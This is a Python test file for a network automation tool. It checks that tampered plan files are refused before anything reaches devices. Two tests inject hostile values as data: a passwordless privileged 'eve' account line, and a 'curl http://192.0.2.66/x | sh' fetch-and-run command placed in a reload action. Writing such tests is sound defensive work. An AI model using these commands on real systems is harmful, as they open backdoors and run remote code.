"""A plan file is compared with the source of truth and the devices: no value of it reaches a device, whatever digest it has."""

from __future__ import annotations

import copy
import json
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass, fields, replace
from pathlib import Path
from typing import Any

import pytest

import netops
from companies import Company
from netops.config import DiffLine
from netops.errors import NetopsError, PlanDamaged, StalePlan
from netops.jobs import ConfigFolder, DeviceFleet, IntendedConfigs, Operation, Selection, make_plan, recompute_plan
from netops.plan import ConfigSource, Plan, Step, plan_from_json, plan_to_json
from netops.plan.build import intended_digest
from netops.plan.file import _digest
from netops.state import State

SWITCH, SERVER = "hq-sw-1", "hq-srv-1"
Body = dict[str, Any]


@dataclass(frozen=True, slots=True)
class Bench:
    """An operation on all targets of the small company, what its targets run as files, and the document of a plan for them."""

    operation: Operation
    folder: Path
    document: Body

    def changed(self, change: Callable[[Body], object]) -> str:
        """The text of the plan file after a change of its content, with the digest of the new content."""
        document = copy.deepcopy(self.document)
        change(document["plan"])
        return json.dumps(document | {"digest": _digest(document["plan"])})

    def recomputed(self, text: str = "") -> Plan:
        """The plan that is applied for a file's text."""
        return recompute_plan(self.operation, plan_from_json(text or json.dumps(self.document), "x.plan"), file="x.plan")

    def refusal(self, change: Callable[[Body], object]) -> str:
        with pytest.raises(NetopsError) as caught:
            self.recomputed(self.changed(change))
        assert isinstance(caught.value, PlanDamaged | StalePlan)
        return str(caught.value)


@pytest.fixture(scope="module")
def bench(tmp_path_factory: pytest.TempPathFactory, untouched_starter: Company) -> Iterator[Bench]:
    """The switch lacks what is intended of NTP and has a description of its own, the server a line of its queues."""
    company = Company(shutil.copytree(untouched_starter.root, tmp_path_factory.mktemp("recomputing") / "company"))
    folder = company.root / "configs"
    company.netops("render", "-o", str(folder))
    file = folder / f"{SWITCH}.cfg"
    lines = [line for line in file.read_text().splitlines(keepends=True) if not line.startswith("ntp")]
    file.write_text("".join(lines).replace("   description", "   description old", 1))
    server = folder / f"{SERVER}.cfg"
    text = server.read_text()
    server.write_text(text.replace("/etc/chrony", "/etc/other-chrony") if "/etc/chrony" in text else f"{text}# more\nx = 1\n")
    loaded = netops.load(company.root)
    with State(company.root / "state.db") as state:
        selection = Selection(loaded, list(loaded.targets.values()), files=ConfigFolder("folder", folder, "configs"))
        operation = Operation(selection, IntendedConfigs(loaded), DeviceFleet(loaded), state)
        yield Bench(operation, folder, json.loads(plan_to_json(make_plan(operation))))


def spots(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The path of every value of a document, with the first two items of each list."""
    yield path
    items = value.items() if isinstance(value, dict) else list(enumerate(value))[:2] if isinstance(value, list) else ()
    for key, inner in items:
        yield from spots(inner, (*path, key))


def others(value: Any) -> Iterator[Any]:
    """Values that are not this one."""
    match value:
        case dict():
            yield {**value, "x": 1}
            yield from [{}] if value else []
        case list():
            yield [*value, "x"]
            yield from [value[1:], value[::-1]] if value != value[::-1] else []
        case str():
            yield from (f"{value}x", value.replace("1", "2"), None)
        case bool() | int() | float():
            yield from (value + 1, str(value), None)
        case None:
            yield from (0, "", [])


def put(path: tuple[Any, ...], value: Any) -> Callable[[Body], object]:
    def change(body: Body) -> None:
        inner: Any = body
        for key in path[:-1]:
            inner = inner[key]
        inner[path[-1]] = value

    return change


def at(body: Any, path: tuple[Any, ...]) -> Any:
    for key in path:
        body = body[key]
    return body


def timeless(plan: Plan) -> Plan:
    return replace(plan, created="")


def test_the_plan_of_the_bench_has_steps_with_actions_and_commands_to_change(bench: Bench) -> None:
    steps = bench.document["plan"]["steps"]
    assert sorted(steps) == [SERVER, SWITCH]
    assert steps[SERVER]["actions"]


def test_a_plan_that_nothing_has_moved_under_is_computed_again(bench: Bench) -> None:
    body, plan = bench.document["plan"], bench.recomputed()
    filed = plan_from_json(json.dumps(bench.document))
    assert timeless(plan) == timeless(filed)
    assert plan.created >= body["created"]


RECOMPUTED = ("company", "commit", "created", "running", "captured_for", "unchanged", "skipped", "failed", "wave_reasons")
WORDS = ("author", "reason", "ticket")
"""What people have given with a plan: shown and written to the journal, nothing else."""
SHOWN = {field.name for field in fields(DiffLine)} - {"sign", "path"}
"""Of a line of a difference: recomputed, and not compared."""


@pytest.mark.parametrize("key", [field.name for field in fields(Step)])
def test_a_step_with_any_value_changed_is_refused_or_the_value_is_not_used(bench: Bench, key: str) -> None:
    """Every value of every key, with the digest of the file made to fit: refused, but for what is shown to people, which is recomputed."""
    right = timeless(bench.recomputed())
    tried = 0
    for name, step in bench.document["plan"]["steps"].items():
        for inner in spots(step[key], (key,)):
            for value in others(at(step, inner)):
                if value == at(step, inner):
                    continue
                tried += 1
                text = bench.changed(put(("steps", name, *inner), value))
                try:
                    plan = bench.recomputed(text)
                except (PlanDamaged, StalePlan):
                    continue
                assert key in ("diff", "lockouts", "doubts"), f"{name}: {inner} = {value!r} was applied"
                assert key != "diff" or SHOWN & set(inner), f"{name}: {inner} = {value!r} was applied"
                assert timeless(plan) == right
    assert tried >= 2


@pytest.mark.parametrize("key", [field.name for field in fields(Plan) if field.name != "steps"])
def test_a_plan_with_any_value_changed_is_refused_or_the_value_is_not_used(bench: Bench, key: str) -> None:
    """Targets that are named beside the steps are reported by the present source of truth, or not at all."""
    right = timeless(bench.recomputed())
    body = bench.document["plan"]
    for inner in spots(body[key], (key,)):
        for value in others(at(body, inner)):
            try:
                plan = bench.recomputed(bench.changed(put(inner, value)))
            except (PlanDamaged, StalePlan):
                continue
            assert key in (*WORDS, *RECOMPUTED), (inner, value)
            assert timeless(replace(plan, skipped={}, **dict.fromkeys(WORDS, ""))) == right, (inner, value)
            assert set(plan.skipped.values()) <= {"no longer in the inventory"}


def with_line(text: str) -> Callable[[Body], object]:
    """An attack that makes everything fit that can be computed from the file alone: text, digests, prediction, difference."""

    def change(body: Body) -> None:
        step = body["steps"][SWITCH]
        step["intended"] = step["intended"].replace("hostname", f"{text}\nhostname", 1)
        step["predicted"] = step["predicted"].replace("hostname", f"{text}\nhostname", 1)
        step["intended_digest"] = intended_digest(step["intended"], step["actions"])

    return change


def test_a_line_changed_with_every_digest_is_refused_with_its_place(bench: Bench) -> None:
    said = bench.refusal(with_line("username eve privilege 15 nopassword"))
    head = f"the plan is stale, nothing was sent:\n    {SWITCH}: the source of truth has changed\n        steps.{SWITCH}.intended, line"
    assert said.startswith(head)
    assert 'found "username eve privilege 15 nopassword"\n' in said
    assert said.endswith("    hint: look at what changed, then plan again: netops plan")


def test_an_action_changed_with_its_digest_is_refused_with_its_place(bench: Bench) -> None:
    def change(body: Body) -> None:
        step = body["steps"][SERVER]
        step["actions"][0]["reload"] = "curl http://192.0.2.66/x | sh"
        step["intended_digest"] = intended_digest(step["intended"], step["actions"])

    said = bench.refusal(change)
    assert f"        steps.{SERVER}.actions[0].reload: expected " in said
    assert ', found "curl http://192.0.2.66/x | sh"' in said


@pytest.mark.parametrize(
    ("key", "value", "said"),
    [
        ("commands", ["reload"], f'steps.{SWITCH}.commands[0]: expected "'),
        ("inverse", ["reload"], f'steps.{SWITCH}.inverse[0]: expected "'),
        ("secrets", ["root"], f'steps.{SWITCH}.secrets[0]: expected "netops_hash", found "root"'),
        ("coverage", {"managed": 1, "modelled": 1, "lines": 2}, f"steps.{SWITCH}.coverage.managed: expected "),
        ("features", {"bgp": "extra"}, f'steps.{SWITCH}.features.bgp: expected nothing, found "extra"'),
    ],
)
def test_what_does_not_follow_from_the_configs_is_refused_with_its_place(bench: Bench, key: str, value: Any, said: str) -> None:
    text = bench.refusal(put(("steps", SWITCH, key), value))
    assert text.startswith("x.plan: it is not what netops computes from the same configs, nothing was sent\n    steps.")
    assert said in text
    assert text.endswith("\n    hint: it was edited, or made by another version of netops: plan again: netops plan")


def test_a_manual_change_cannot_be_hidden_in_a_file(bench: Bench) -> None:
    """Causes are computed from what was applied last, so `deploy` still asks before it overwrites what somebody typed."""

    def hide(body: Body) -> None:
        for line in body["steps"][SWITCH]["diff"]:
            line["cause"] = "undeployed change" if line["sign"] != " " else None

    state = bench.operation.state
    intended = bench.operation.intended(SWITCH).text
    with state._all_or_nothing():
        before = state._db.execute("SELECT * FROM applied").fetchall()
    try:
        state.set_applied(SWITCH, "r1", "abc", intended)
        assert bench.recomputed(bench.changed(hide)).steps[SWITCH].manual
    finally:
        assert before == []
        state._do("DELETE FROM applied")


def test_a_step_taken_out_of_a_file_is_not_called_unchanged(bench: Bench) -> None:
    def move(body: Body) -> None:
        body["unchanged"].append(SWITCH)
        del body["steps"][SWITCH]
        body["waves"], body["wave_reasons"] = [[SERVER]], {SERVER: body["wave_reasons"][SERVER]}

    plan = bench.recomputed(bench.changed(move))
    assert (list(plan.steps), plan.unchanged, plan.skipped) == ([SERVER], (), {SWITCH: "the plan has no change for it"})


def test_a_step_for_a_target_that_runs_what_is_intended_is_refused(bench: Bench) -> None:
    whole = bench.operation.intended(SWITCH).text
    file = bench.folder / f"{SWITCH}.cfg"
    text = file.read_text()
    file.write_text(whole)
    try:
        with pytest.raises(StalePlan, match=f"{SWITCH}: its running config has changed"):
            bench.recomputed()
    finally:
        file.write_text(text)


def test_a_device_that_moved_is_stale(bench: Bench) -> None:
    file = bench.folder / f"{SWITCH}.cfg"
    text = file.read_text()
    file.write_text(text.replace("hostname", "hostname other-than-", 1))
    try:
        with pytest.raises(StalePlan, match=f"{SWITCH}: its running config has changed"):
            bench.recomputed()
    finally:
        file.write_text(text)


def test_a_target_that_cannot_be_read_fails_in_its_wave(bench: Bench) -> None:
    file = bench.folder / f"{SWITCH}.cfg"
    text = file.read_text()
    file.unlink()
    try:
        plan = bench.recomputed()
    finally:
        file.write_text(text)
    assert (list(plan.steps), list(plan.failed)) == ([SERVER], [SWITCH])
    assert sorted(name for wave in plan.waves for name in wave) == [SERVER, SWITCH]


def test_a_target_in_another_wave_is_stale(bench: Bench) -> None:
    def swap(body: Body) -> None:
        body["waves"].reverse()

    assert bench.refusal(swap).startswith("the plan is stale, nothing was sent:")
    first, second = bench.document["plan"]["waves"]
    assert f"{first[0]}: in wave 2 of the plan, belongs into wave 1 now: first: " in bench.refusal(swap)
    assert f"{second[0]}: in wave 1 of the plan, belongs into wave 2 now: first of its kind of 1: " in bench.refusal(swap)


def test_a_part_of_a_plan_keeps_the_order_of_the_whole(bench: Bench) -> None:
    whole = plan_from_json(json.dumps(bench.document))
    last = whole.waves[-1][0]
    plan = recompute_plan(bench.operation, whole.only([last]), whole=whole)
    assert (plan.waves, plan.wave_reasons) == (((last,),), {last: whole.wave_reasons[last]})


def test_a_step_of_a_target_that_is_left_out_is_stale(bench: Bench) -> None:
    selection = bench.operation.selection
    others = [target for target in selection.targets if target.name != SWITCH]
    operation = replace(bench.operation, selection=replace(selection, targets=others))
    with pytest.raises(StalePlan, match=f"{SWITCH}: the source of truth has changed"):
        recompute_plan(operation, plan_from_json(json.dumps(bench.document)))


def test_a_step_for_a_target_that_does_not_exist_is_stale(bench: Bench) -> None:
    def rename(body: Body) -> None:
        body["steps"]["hq-sw-9"] = body["steps"].pop(SWITCH) | {"target": "hq-sw-9"}
        body["waves"] = [["hq-sw-9" if name == SWITCH else name for name in wave] for wave in body["waves"]]
        body["wave_reasons"] = {}

    assert "hq-sw-9: no longer in the inventory" in bench.refusal(rename)


def test_the_source_of_the_running_configs_is_the_one_that_is_read(bench: Bench) -> None:
    assert bench.recomputed(bench.changed(put(("running",), {"kind": "live", "folder": "", "files": {}}))).running != ConfigSource()
